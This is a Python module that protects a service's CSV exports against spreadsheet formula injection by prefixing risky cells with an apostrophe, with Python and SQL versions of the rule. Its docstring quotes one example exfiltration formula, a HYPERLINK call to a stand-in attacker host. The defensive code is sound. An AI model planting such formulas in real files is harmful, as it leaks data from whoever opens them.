"""Cells of the CSV files the service writes, neutralised against formula injection.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs,
a tab or a carriage return) as a formula: a pensioner's name or an agency reference
such as `=HYPERLINK("http://evil.example/?"&A1)` would run on the clerk's machine when
the export is opened. As OWASP recommends, such a cell gets a leading `'`, which the
spreadsheet shows as text (`'=1+1` reads as `=1+1`, and is never evaluated).

One rule, in two forms: `neutralise_cell` for rows formatted in Python (the bulk-enrolment
refused-rows report, any `csv.writer`), and `neutralised_sql` for cells the database
formats itself (exports: the SQLite stream and PostgreSQL's `COPY ... TO STDOUT`, which
keep memory constant over a million rows). `tests/integration/test_csv_cells.py` checks
that both databases agree with the Python form.

JSON outputs (the feed, NDJSON exports) carry the values unchanged: they are data, not
something a spreadsheet evaluates.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

__all__ = [
    "FORMULA_TRIGGERS",
    "NEUTRALISING_PREFIX",
    "neutralise_cell",
    "neutralise_row",
    "neutralised_sql",
    "SafeCsvWriter",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection)."""

NEUTRALISING_PREFIX = "'"
"""Put before such a cell; spreadsheets show what follows as text."""


def neutralise_cell(value: Any) -> Any:
    """The value, with a leading `'` if it is text starting with a formula trigger;
    anything else (numbers, None, other text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return NEUTRALISING_PREFIX + value
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise_cell(v) for v in values]


def _sql_literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def neutralised_sql(expression: str) -> str:
    """SQL (SQLite and PostgreSQL alike) for the text `expression` under the same rule:
    NULL stays NULL, a value starting with a trigger gets the prefix."""
    triggers = ", ".join(_sql_literal(c) for c in FORMULA_TRIGGERS)
    return (
        f"(CASE WHEN substr({expression}, 1, 1) IN ({triggers}) "
        f"THEN {_sql_literal(NEUTRALISING_PREFIX)} || ({expression}) ELSE ({expression}) END)"
    )


class SafeCsvWriter:
    """A `csv.writer` whose every cell goes through `neutralise_cell`."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, values: Sequence[Any]) -> Any:
        return self._writer.writerow(neutralise_row(values))

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for values in rows:
            self.writerow(values)
